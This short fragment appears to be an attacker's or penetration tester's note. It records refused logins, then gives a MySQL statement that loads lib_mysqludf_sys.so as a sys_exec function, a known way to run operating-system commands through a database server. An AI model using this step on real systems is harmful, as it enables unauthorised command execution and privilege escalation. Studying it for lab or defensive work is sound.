-- own account: refused; login of the target: refused
CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so';
